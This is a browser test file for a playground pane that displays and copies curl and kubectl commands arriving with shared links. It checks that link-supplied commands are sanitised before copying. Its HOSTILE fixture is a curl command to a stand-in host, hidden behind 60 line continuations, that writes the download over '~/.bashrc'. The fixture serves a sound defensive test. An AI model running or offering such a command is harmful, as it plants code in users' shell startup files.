import { FIRST } from '@authz-playground/examples/first'
import { afterEach, beforeEach, expect, it, vi } from 'vitest'
import { page } from 'vitest/browser'
import { cleanup, render } from 'vitest-browser-react'
import '../../ui/tokens.css'
import '../../ui/reset.css'
import { openDocument, playground, showAudience, unfold, workerApi } from '../../session/index.ts'
import { RequestPane } from './RequestPane.tsx'

const { scenario } = FIRST

beforeEach(() => {
  void workerApi()
  showAudience('debug')
  unfold('request', true)
})
afterEach(async () => {
  vi.restoreAllMocks()
  await cleanup()
})

/** The pane with a curl command that came with a link. */
async function show(text: string, form: 'curl' | 'kubectl' = 'curl'): Promise<void> {
  openDocument({ title: '', explanation: '', expect: [], scenario: { ...scenario, request: { form, text } } }, true)
  await render(
    <div style={{ inlineSize: 500 }}>
      <RequestPane />
    </div>,
  )
  await expect.poll(() => playground.getState().answered).toBe(playground.getState().scenario)
  await page.getByRole('tab', { name: new RegExp(`^${form}`) }).click()
}

/** What the copy button of the form gives. */
async function copied(form: string): Promise<string> {
  const write = vi.spyOn(navigator.clipboard, 'writeText').mockResolvedValue()
  await expect
    .poll(async () => {
      await page.getByRole('button', { name: `Copy ${form} command` }).click()
      return write.mock.calls.length
    })
    .toBeGreaterThan(0)
  return write.mock.calls.at(-1)?.[0] ?? ''
}

const HOSTILE = `/e/curl https://e.example/api/v1/namespaces/default/pods ${'\\\n'.repeat(60)} -o ~/.bashrc`

it('copies a command that came with a link as the page prints it, and says so', async () => {
  await show(HOSTILE)
  await expect
    .element(
      page.getByText('This form came with the link; the others follow. Copy gives the command as the page prints it.'),
    )
    .toBeVisible()
  await expect.element(page.getByRole('list', { name: 'Problems in the request' })).toHaveTextContent('~/.bashrc')
  expect(await copied('curl')).toBe(`curl 'https://localhost:6443/api/v1/namespaces/default/pods'`)
})

it('is the work of whoever edits it, until that is undone', async () => {
  await show(HOSTILE)
  const text = `${HOSTILE} -k`
  playground.getState().edit({ subject: 'request', change: { request: { form: 'curl', text } } })
  await expect.element(page.getByText('You wrote this form; the others follow.')).toBeVisible()
  expect(await copied('curl')).toBe(text)
  playground.getState().undo()
  await expect.element(page.getByText(/^This form came with the link/)).toBeVisible()
  playground.getState().edit({ subject: 'policy', change: { policy: `${scenario.policy}\n# mine` } })
  await expect.element(page.getByText(/^This form came with the link/)).toBeVisible()
})

it('says where a command is copied as it came, because the page prints no such command', async () => {
  const text = 'kubectl apply -n default -f - <<EOF\nkind: ConfigMap\napiVersion: v1\nmetadata: {name: a}\nEOF\n'
  await show(text, 'kubectl')
  await expect.element(page.getByText(/Copy gives it as it came: read all of it before you run it\.$/)).toBeVisible()
  expect(await copied('kubectl')).toBe(text)
})
